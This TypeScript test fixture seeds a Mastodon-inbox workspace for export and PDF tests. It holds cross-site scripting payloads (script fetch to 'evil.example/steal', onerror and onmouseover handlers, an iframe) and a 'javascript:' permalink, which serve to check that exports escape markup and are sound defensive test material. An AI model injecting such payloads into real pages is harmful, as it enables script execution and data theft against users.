import { join } from 'node:path'
import { ReportRows } from './report-workspace'
import { FakeClock, openWorkspace, tempDir, typed } from './workspace'

/** Channel text that would run, load or mislead if an export inserted it as markup. */
export const HOSTILE = {
  text: `<img src="https://evil.example/pixel.png" onerror="alert(1)"><script>fetch('http://evil.example/steal')</script> & "quotes"`,
  author: `<b onmouseover="alert(2)">Mallory</b>`,
  subject: `<iframe src="https://evil.example/frame"></iframe>Refund?`,
}
export const PERMALINK = 'https://mastodon.example/@mallory/111'
export const at = (day: number, hh: number, mm = 0): number => Date.UTC(2026, 10, day, hh, mm)

/**
 * A real workspace with one Mastodon conversation: a hostile inbound message with a permalink,
 * a reply, an internal note, an approval and audit events; plus many short messages in a second
 * conversation so its PDF needs several pages.
 */
export async function exportWorkspace() {
  const t = tempDir('parley-export-')
  const dataDir = join(t.dir, 'data')
  const ws = openWorkspace(dataDir, new FakeClock(at(20, 12)))
  const call = typed(ws)
  const db = ws.core.db
  const r = new ReportRows(db)
  const account = r.account('mastodon', 'Brand')
  const id = r.conversation(account, 'comment', { createdAt: at(16, 10), author: HOSTILE.author, subject: HOSTILE.subject })
  const inbound = r.message(id, 'in', at(16, 10), { text: HOSTILE.text })
  db.prepare('UPDATE messages SET permalink = ?, author_name = ?, remote_id = ? WHERE id = ?').run(PERMALINK, HOSTILE.author, '111', inbound)
  const reply = r.message(id, 'out', at(16, 11, 30), { text: 'Thanks, we are on it.' })
  db.prepare("UPDATE messages SET permalink = 'javascript:alert(3)' WHERE id = ?").run(reply)
  const note = await call('notes.add', { conversationId: id, body: 'Internal: customer is a VIP, do not promise a date.' })
  if (!note.ok) throw new Error(note.error.message)
  const me = ws.core.profiles.currentProfile()
  r.approval(id, me.id, 'approved', at(16, 11), at(16, 11, 20))
  ws.core.audit.append({ at: at(16, 11), profileId: me.id, conversationId: id, kind: 'submitted', payload: { approvalId: 'ap-1' } })
  ws.core.audit.append({ at: at(16, 11, 20), profileId: me.id, conversationId: id, kind: 'approved', payload: { approvalId: 'ap-1', step: 1 } })

  const long = r.conversation(account, 'dm', { createdAt: at(17, 9), author: 'Chatty', subject: 'Many messages' })
  for (let i = 0; i < 90; i++) r.message(long, i % 2 ? 'out' : 'in', at(17, 9, i), { text: `Message number ${i} in a long thread.` })
  return { ...t, dataDir, ws, call, id, long, me }
}
